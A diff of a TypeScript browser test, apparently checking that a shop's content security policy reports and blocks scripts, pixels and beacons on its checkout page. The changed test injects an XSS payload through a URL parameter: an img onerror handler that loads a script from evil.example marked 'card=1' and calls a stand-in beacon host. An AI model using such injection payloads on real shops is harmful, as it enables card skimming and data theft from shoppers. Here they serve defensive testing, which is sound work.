@@ -95,10 +95,16 @@ describe("a shopper's browser", () => {
 
   test("tells us what goes beyond the policy, and loads what was agreed in silence", async () => {
     const page = await browser.newPage();
-    // Each slash of it comes with a backslash before, which browsers take for one too.
-    const html =
-      "<script src=https://js.stripe.com/v3/></script> <script src=https://evil.example/a.js?card=1></script> <img src=https://pixel.example/4111?b onerror=fetch('https://beacon.example/x')>";
-    await page.goto(`https://shop.example.com/?target=checkout&do=page&html=${encodeURIComponent(html.replaceAll("</script>", ""))}`);
+    // PHP's echo is JSON, in which an attribute can stand and the end of an element cannot.
+    const load = (address: string) => `document.head.append(Object.assign(document.createElement('script'),{src:'${address}'}))`;
+    const asked = [
+      load("https://js.stripe.com/v3/"),
+      load("https://evil.example/a.js?card=1"),
+      "Object.assign(document.createElement('img'),{src:'https://pixel.example/4111?b'})",
+      "fetch('https://beacon.example/x')",
+    ];
+    const html = `<img src=x: onerror=${asked.join(";")}>`;
+    await page.goto(`https://shop.example.com/?target=checkout&do=page&html=${encodeURIComponent(html)}`);
     const expected = ["https://evil.example/a.js", "https://pixel.example/4111", "https://beacon.example/x"];
     const found = await reported(...expected);
     expect(new Map(found.map(({ blocked, ...rest }) => [blocked, rest]))).toEqual(
